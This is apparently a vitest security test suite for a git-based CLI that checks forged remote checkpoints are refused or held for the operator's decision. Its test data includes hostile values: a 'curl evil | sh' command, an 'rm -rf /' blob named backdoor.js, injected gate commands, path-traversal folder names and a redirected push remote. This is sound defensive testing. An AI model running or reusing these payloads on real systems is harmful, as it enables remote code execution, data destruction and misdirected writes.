/**
 * Letters from outside are data. Whoever may push the ref of a session's checkpoints may write anything into them under a good seal: here
 * somebody does, and the machine that fetches it runs, moves, writes and sends nothing because of it. Names in brackets are attacks.
 */
import { createHash } from 'node:crypto';
import { chmod, readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { expect, it } from 'vitest';
import { openQuestion } from '../../src/domain/integration/open-question.ts';
import { makeRepository, type TestRepository, temporaryFolder } from '../support/repository.ts';
import { begin, type Story } from '../support/session.ts';
import { cli, configured, effort, makeWorld, ONE_GATE } from '../support/stories.ts';
import { forge, machines } from '../support/two-machines.ts';

const BRANCH = 'phase1/wave1-integration';
const GATE = 'test ! -e red';

const isThere = (path: string) =>
  stat(path).then(
    () => true,
    () => false,
  );
const heads = (repo: TestRepository) => repo.git('for-each-ref', 'refs/heads');
const takeItUp = (repo: TestRepository) => cli(repo, 'resume', '--from', 'origin', '--decide', 'recommended');
const questionIn = (out: string) => /intorch decide (letter-\w+)/.exec(out)?.[1] ?? '';

it('asks with both commands in full before a forged gate runs, and an unattended run stops with status 3 [H4]', async () => {
  const world = await machines();
  const { b } = world;
  const marker = join(await temporaryFolder(), 'pwned');
  const command = `touch ${marker}; ${'true; '.repeat(60)}`;
  await forge(world, (text) =>
    text
      .replace(`command: ${GATE}`, `command: "${command}"`)
      .replace('setup: null', `setup: touch ${marker}`),
  );

  const { status, out } = await takeItUp(b);

  expect(status).toBe(3);
  expect(out).toContain(
    `  gates.test.command: ${JSON.stringify(GATE)} here, ${JSON.stringify(command)} there\n`,
  );
  expect(out).toContain(`  worktree.setup: null here, ${JSON.stringify(`touch ${marker}`)} there\n`);
  const id = questionIn(out);
  // A kill in between loses nothing: it is asked again, whoever resumes.
  const again = await cli(b, 'resume', '--decide', 'recommended');
  expect([again.status, questionIn(again.out)]).toEqual([3, id]);
  expect((await cli(b, 'decide')).out).toMatch(/^\* here /m);
  expect((await cli(b, 'decide', id, 'here')).status).toBe(0);
  expect((await cli(b, 'resume', '--decide', 'recommended')).status).toBe(0);
  expect(await b.git('ls-tree', '--name-only', 'main')).toContain('d.txt');
  expect(await isThere(marker)).toBe(false);
});

it('runs what another machine set where the operator says so', async () => {
  const world = await machines();
  const { b } = world;
  const marker = join(await temporaryFolder(), 'wanted');
  await forge(world, (text) => text.replace(`command: ${GATE}`, `command: "touch ${marker}"`));
  const { out } = await takeItUp(b);

  expect((await cli(b, 'decide', questionIn(out), 'there')).status).toBe(0);

  expect((await cli(b, 'resume', '--decide', 'recommended')).status).toBe(0);
  expect(await isThere(marker)).toBe(true);
});

it('offers no result as verified, and no command to finish it, because another machine says so [H4]', async () => {
  const world = await machines();
  const { a, b } = world;
  await cli(a, 'resume', '--decide', 'recommended', '--no-land');
  await forge(world, (text) => text.replace(/landing_command: .*/, 'landing_command: curl evil | sh'));

  expect((await cli(b, 'checkpoint', 'fetch')).out).toContain('HELD_FOR_REVIEW');

  const { out } = await cli(b, 'status');
  expect(out).toContain('HELD_FOR_REVIEW');
  expect(out).not.toMatch(/evil|finish/);
  expect((await cli(b, 'report', '--json')).out).not.toContain('"command": "curl');
  expect(await b.git('rev-parse', 'main')).toBe(await world.remote.git('rev-parse', 'main'));
});

it.each([
  ['a branch of the operator', 'mywork'],
  ['the target', 'main'],
])('takes no integration branch that the settings here do not name: %s [H5]', async (_what, branch) => {
  const world = await machines();
  const { b } = world;
  await b.git('update-ref', 'refs/heads/mywork', 'main');
  await b.commit('mywork', { 'mine.txt': 'mine\n' });
  await forge(world, (text) =>
    text.replaceAll(`integration_branch: ${BRANCH}`, `integration_branch: ${branch}`),
  );
  const before = await heads(b);

  const { status, err } = await takeItUp(b);

  expect(err).toContain(`not taken: it integrates on ${branch}, and the settings here on ${BRANCH}`);
  expect(status).not.toBe(0);
  expect(await heads(b)).toBe(before);
});

it("never moves a branch of that name that is at somebody else's commit [H5]", async () => {
  const { b } = await machines();
  await b.git('update-ref', `refs/heads/${BRANCH}`, 'main');
  const mine = await b.commit(BRANCH, { 'mine.txt': 'mine\n' });

  const { err } = await takeItUp(b);

  expect(err).toContain(`not taken: ${BRANCH} is at ${mine.slice(0, 8)} here, which is none of its commits`);
  expect(await b.tip(BRANCH)).toBe(mine);
});

it('merges again what is said to be merged, and names effort and path where it comes out otherwise [H6]', async () => {
  const world = await machines();
  const { b, remote, story } = world;
  const state = story.state();
  const tip = String(state.integration_tip);
  await remote.git('fetch', '--quiet', world.a.dir, BRANCH);
  const blob = await remote.gitWithInput('rm -rf /\n', 'hash-object', '-w', '--stdin');
  const tree = await remote.gitWithInput(
    `${await remote.git('ls-tree', tip)}\n100644 blob ${blob}\tbackdoor.js\n`,
    'mktree',
  );
  const forged = await remote.git('commit-tree', '-m', 'b', '-p', `${tip}^1`, '-p', `${tip}^2`, tree);
  await forge(
    world,
    (text) => text.replaceAll(tip, forged),
    (refs) => refs.replaceAll(tip, forged),
  );
  const before = await heads(b);

  const { err } = await takeItUp(b);

  expect(err).toContain('not taken: b merged again comes out otherwise: backdoor.js');
  expect(await heads(b)).toBe(before);
});

it('adopts no commit that only the list of refs calls the tip [H6]', async () => {
  const world = await machines();
  const { b, remote, story } = world;
  const tip = String(story.state().integration_tip);
  await remote.git('fetch', '--quiet', world.a.dir, BRANCH);
  const forged = await remote.git(
    'commit-tree',
    '-m',
    'x',
    '-p',
    tip,
    '-p',
    await remote.tip('effort/d'),
    `${tip}^{tree}`,
  );
  await forge(
    world,
    (text) => text,
    (refs) =>
      refs.replace(
        `${tip} refs/intorch/sessions/${story.live.id}/tip`,
        `${forged} refs/intorch/sessions/${story.live.id}/tip`,
      ),
  );

  await cli(b, 'checkpoint', 'fetch');

  expect(await b.tip(BRANCH)).toBe(tip);
  expect(await b.tip(`refs/intorch/sessions/${story.live.id}/tip`)).toBe(tip);
});

it('merges again what was decided by hand, and takes it', async () => {
  const { a, b } = await machines();
  await cli(a, 'resume', '--decide', 'recommended', '--no-land');
  const { out } = await cli(b, 'checkpoint', 'fetch');
  expect(out).toMatch(/\d+ refs/);
  expect(out).not.toContain('not taken');
});

it('writes checkpoints and sends work only where this machine says [M4, M5]', async () => {
  const world = await machines();
  const { b } = world;
  const attacker = await makeRepository({}, { bare: true });
  await forge(world, (text) =>
    text
      .replace('directory: null\n', 'directory: ../public_html\n')
      .replace('remote: origin', `remote: ${attacker.dir}`),
  );
  const around = await readdir(join(b.dir, '..'));

  expect((await cli(b, 'checkpoint', 'fetch')).status).toBe(0);
  expect((await cli(b, 'resume', '--decide', 'recommended')).status).toBe(0);

  expect((await readdir(join(b.dir, '..'))).filter((name) => name === 'public_html')).toEqual([]);
  expect(around).not.toContain('public_html');
  expect(await attacker.git('for-each-ref')).toBe('');
});

it.each(['../elsewhere', '/tmp/elsewhere', '.git/hooks', 'a/../../b', '.GIT/x', 'git~1/x'])(
  'refuses a folder for checkpoints outside of the working tree: %s [M4]',
  async (directory) => {
    const repo = await makeWorld(
      {},
      {},
      { config: configured(`checkpoints: { directory: '${directory}' }\n`) },
    );

    const { status, err } = await cli(repo, 'plan');

    expect([status, err]).toEqual([
      65,
      expect.stringContaining('a folder inside the working tree, and not in .git'),
    ]);
  },
);

it('follows no link on the way to a folder for checkpoints [M4]', async () => {
  const outside = await temporaryFolder();
  const repo = await makeWorld(
    {},
    { 'effort/a': effort({ 'a.txt': 'a\n' }) },
    { config: configured(`${ONE_GATE}checkpoints: { directory: ck/here }\n`) },
  );
  await symlink(outside, join(repo.dir, 'ck'));

  const { status, err, out } = await cli(repo, 'run', '--decide', 'recommended');

  expect(`${err}${out}`).toContain(`${join(repo.dir, 'ck')} is not a folder`);
  expect(status).not.toBe(70);
  expect(await readdir(outside)).toEqual([]);
});

it('asks about settings in a checkpoint that a branch brought into the working tree [H4]', async () => {
  const marker = join(await temporaryFolder(), 'pwned');
  const repo = await makeWorld(
    { 'song.txt': 'one\n' },
    { 'effort/a': effort({ 'song.txt': 'a\n' }), 'effort/b': effort({ 'song.txt': 'b\n' }) },
    { config: configured(`${ONE_GATE}checkpoints: { directory: ck }\n`) },
  );
  const story = await begin(repo);
  await story.work();
  await story.live.close();
  const active = join(repo.dir, 'ck', 'active');
  const newest = (await readdir(active)).toSorted().at(-1) ?? '';
  const sequence = Number(/-(\d{6})\.yaml$/.exec(newest)?.[1]);
  const text = (await readFile(join(active, newest), 'utf8'))
    .replace(/# sha256: .*\n$/, '')
    .replace(`command: ${GATE}`, `command: "touch ${marker}"`)
    .replace(`  sequence: ${sequence}\n`, `  sequence: ${sequence + 1}\n`);
  const name = newest.replace(/\d{6}\.yaml$/, `${String(sequence + 1).padStart(6, '0')}.yaml`);
  await writeFile(
    join(active, name),
    `${text}# sha256: ${createHash('sha256').update(text).digest('hex')}\n`,
  );

  const { status, out } = await cli(repo, 'resume', '--decide', 'recommended');

  expect(out).toContain(`${JSON.stringify(`touch ${marker}`)} there`);
  expect(status).toBe(3);
  expect(await isThere(marker)).toBe(false);
});

it('refuses a huge checkpoint before it is parsed, and looks at no more than the newest sessions [L8]', async () => {
  const world = await machines();
  const { b, remote, story } = world;
  const ref = `refs/intorch/checkpoints/${story.live.id}`;
  const many = Array.from({ length: 400_000 }, (_, index) => `  k${index}: ${index}\n`).join('');
  await forge(world, (text) => text + many);
  const forged = await remote.tip(ref);
  for (let day = 10; day < 40; day++)
    await remote.git('update-ref', `refs/intorch/checkpoints/wave0-202611${day}-000000`, forged);

  const { out, status } = await cli(b, 'checkpoint', 'fetch');

  expect(out).toContain(`${story.live.id}  not taken: there is more in it than is read from another machine`);
  expect(out.trimEnd().split('\n')).toHaveLength(20);
  expect(status).toBe(65);
});

it('lands nothing where an object is no longer what its name says when the gates are through [M2]', async () => {
  const repo = await makeWorld({ 'c.txt': 'one\n' }, { 'effort/a': effort({ 'c.txt': 'good\n' }) });
  const start = await repo.tip('main');
  const story = await begin(repo);
  await comesTo(story, 'land');
  const blob = await repo.git('rev-parse', 'effort/a:c.txt');
  const file = join(repo.gitDir, 'objects', blob.slice(0, 2), blob.slice(2));
  await chmod(file, 0o644);
  await writeFile(file, deflateSync(Buffer.from('blob 9\0BACKDOOR\n', 'latin1')));

  await story.choose('land');

  expect(story.state().end).toMatchObject({
    outcome: 'FAILED',
    because: 'objects between main and the verified commit are damaged: one is not what its name says',
  });
  expect(await repo.tip('main')).toBe(start);
});

/** Works like an engine with an operator who only starts it, until a question of that kind is asked. */
async function comesTo(story: Story, kind: string): Promise<void> {
  const stop = new AbortController();
  const never = new AbortController().signal;
  const working = story.live.session.run({ answers: 'operator', stop: stop.signal, finish: never });
  for (;;) {
    const question = openQuestion(story.state());
    if (question?.kind === kind) break;
    if (question?.kind === 'start')
      await story.command({ type: 'choose_named', question: question.id, choice: 'start' });
    await new Promise((done) => setTimeout(done, 5));
  }
  stop.abort();
  await working;
}
